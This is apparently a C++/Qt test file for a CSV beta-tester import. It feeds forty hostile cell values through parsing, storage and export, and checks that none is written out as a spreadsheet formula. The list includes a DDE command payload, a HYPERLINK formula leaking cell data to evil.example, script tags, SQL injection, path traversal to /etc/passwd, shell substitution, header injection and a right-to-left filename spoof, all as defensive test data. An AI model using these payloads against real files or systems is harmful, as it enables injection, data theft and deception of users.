// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/csvtable.h"
#include "services/testerimport/testerimportexport.h"
#include "src/services/testerimport/importstage.h"
#include "support/testrunner.h"

using namespace Qt::StringLiterals;
using namespace slipway;
using test::ImportStage;

namespace {

QString withNul(const QString &before, const QString &after)
{
    return before + QChar(QChar::Null) + after;
}

//! Forty texts that somebody may have put into a table to do harm, or by mistake.
QStringList hostileCells()
{
    return {
        u"<img src='file:///etc/passwd'>"_s,
        u"<a href='https://evil.example/'>Click here</a>"_s,
        u"<b>bold</b> & &lt;i&gt; &amp;amp;"_s,
        u"<script>alert(1)</script><style>*{display:none}</style>"_s,
        u"<table><tr><td style='font-size:900px'>"_s,
        u"user\u202Egnp.exe"_s,
        u"\u2066\u2067mixed \u05E9\u05DC\u05D5\u05DD\u2069 text\u2069"_s,
        u"pay\u200Bpal\u200D\u2060"_s,
        u"👩‍🚀👨‍👩‍👧‍👦🏳️‍🌈"_s,
        u"🇩🇪"_s,
        QString(1 << 20, u'W'),
        QString(u"é"_s).repeated(500'000),
        withNul(u"before"_s, u"after"_s),
        withNul({}, {}),
        u"=cmd|' /C calc'!A0"_s,
        u"=HYPERLINK(\"https://evil.example/?\"&A1,\"Invoice\")"_s,
        u"+1+1"_s,
        u"-2+3"_s,
        u"@SUM(1+1)"_s,
        u"\t=1+1"_s,
        u"'=1+1"_s,
        u"''"_s,
        u"'"_s,
        u"\""_s,
        u"\"\"\""_s,
        u"\"quoted\" in the middle, and at the end\""_s,
        u"two\nlines"_s,
        u"two\r\nlines\r\n"_s,
        u"\rone"_s,
        u"line\u2028paragraph\u2029"_s,
        u"a,b;c\td"_s,
        u"line\r\nSet-Cookie: a=b"_s,
        u"../../../../etc/passwd"_s,
        u"'; DROP TABLE tester_import; --"_s,
        u"%1 %n %s %2 ${HOME} `id` %%"_s,
        u"\\u0000 \\n \\\" \\"_s,
        u"{\"data\":null}"_s,
        u"Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032FA"_s,
        u"\uFEFFmark"_s,
        u"ﷺ ﷽ \U000E0041 \uFFFD"_s,
    };
}

QByteArray utf16(const QByteArray &utf8)
{
    QStringEncoder encoder(QStringConverter::Utf16LE, QStringConverter::Flag::WriteBom);
    return encoder(QString::fromUtf8(utf8));
}

} // namespace

//! Whatever stands in a cell is text, from the table to the result file (rules S24 and S32).
class TstHostileCells final : public QObject
{
    Q_OBJECT

private slots:
    void thereAreForty() { QCOMPARE(hostileCells().size(), 40); }

    void cellsSurviveBeingWrittenAndRead_data()
    {
        QTest::addColumn<bool>("isUtf16");
        QTest::newRow("UTF-8") << false;
        QTest::newRow("UTF-16") << true;
    }
    void cellsSurviveBeingWrittenAndRead()
    {
        QFETCH(bool, isUtf16);
        CsvTable table;
        for (const QString &cell : hostileCells())
            table.add(cell).add(u"x@example.com"_s).endRow();
        const QByteArray bytes = isUtf16 ? utf16(table.bytes()) : table.bytes();
        const Result<TesterSheet> sheet = parseTesterSheet({.name = u"hostile.csv"_s, .bytes = bytes}, {.delimiter = u',', .hasHeader = false});
        QVERIFY(sheet);
        QCOMPARE(sheet->rows.size(), size_t(hostileCells().size()));
        for (qsizetype i = 0; i < hostileCells().size(); ++i)
            QVERIFY2(sheet->rows[size_t(i)].cells.front() == hostileCells().at(i), qPrintable(u"cell %1"_s.arg(i)));
    }

    void noCellIsAFormulaInAFile()
    {
        TesterRehearsal rehearsal;
        for (const QString &cell : hostileCells())
            rehearsal.testers.push_back({.tester = {.row = 1, .email = cell, .firstName = cell, .lastName = cell, .reason = cell}});
        const Result<std::vector<CsvRow>> raw =
            readCsv(QString::fromUtf8(problemsAsCsv(rehearsal)), u"problems.csv"_s, {.delimiter = u',', .longestCell = 10'000'000});
        QVERIFY(raw);
        QCOMPARE(raw->size(), size_t(hostileCells().size()) + 1);
        for (const CsvRow &row : *raw) {
            for (const QString &cell : row.cells)
                QVERIFY(cell.isEmpty() || !u"=+-@\t\r"_s.contains(cell.trimmed().left(1)) || cell.trimmed().isEmpty());
        }
    }

    // Also as addresses, names and groups of a table that is really imported; they go through state.db and back.
    void anImportOfThemIsReadBackAsItWasWritten()
    {
        ImportStage stage;
        const TesterRehearsal rehearsal = rehearseIn(stage);
        QCOMPARE(rehearsal.testers.size(), size_t(2 * hostileCells().size()));
        const qint64 id = stage.start(rehearsal);
        const int accepted = rehearsal.count(TesterVerdict::New);
        QVERIFY(accepted > 15); // those with a line break, a NUL or a megabyte are no names
        const ImportStatus status = stage.finish(id);
        QCOMPARE(status.done, accepted);
        QCOMPARE(stage.members().size(), accepted);
        stage.restart();
        const TesterImport *import = stage.imports().find(id);
        QVERIFY(import);
        for (size_t i = 0; i < import->rows.size(); ++i) {
            QVERIFY2(import->rows[i].email == rehearsal.testers[i].tester.email, qPrintable(QString::number(i)));
            QVERIFY2(import->rows[i].firstName == rehearsal.testers[i].tester.firstName, qPrintable(QString::number(i)));
        }
        compareNames(stage, *import);
        compareFile(*import);
    }

private:
    static TesterRehearsal rehearseIn(ImportStage &stage)
    {
        CsvTable table;
        table.add(u"Email"_s).add(u"First Name"_s).endRow();
        int number = 0;
        for (const QString &cell : hostileCells()) {
            table.add(u"guest%1@example.org"_s.arg(++number)).add(cell).endRow();
            table.add(cell).add(u"Guest"_s).endRow();
        }
        const Result<TesterSheet> sheet =
            parseTesterSheet({.name = u"hostile.csv"_s, .bytes = table.bytes()}, {.delimiter = u',', .hasHeader = true});
        return stage.rehearse(*sheet);
    }

    //! What Apple has is what was in the table.
    static void compareNames(ImportStage &stage, const TesterImport &import)
    {
        for (const ImportedTester &row : import.rows) {
            if (row.state != ImportedTester::State::Done)
                continue;
            const QJsonObject answer = stage.team().other().get(u"/v1/betaTesters/"_s + row.testerId).json();
            const QJsonObject attributes = answer.value("data"_L1).toObject().value("attributes"_L1).toObject();
            QCOMPARE(attributes.value("email"_L1).toString(), row.email);
            QCOMPARE(attributes.value("firstName"_L1).toString(), row.firstName);
        }
    }

    static void compareFile(const TesterImport &import)
    {
        const Result<TesterSheet> file = parseTesterSheet({.name = u"results.csv"_s, .bytes = resultsAsCsv(import)}, {.delimiter = u','});
        QVERIFY(file);
        QVERIFY(file->hasHeader);
        QCOMPARE(file->rows.size(), import.rows.size());
        for (size_t i = 0; i < import.rows.size(); ++i) {
            QVERIFY(file->rows[i].cells.at(1) == import.rows[i].email);
            QVERIFY(file->rows[i].cells.at(2) == import.rows[i].firstName);
        }
    }
};

SLIPWAY_TEST(TstHostileCells)
#include "tst_hostilecells.moc"
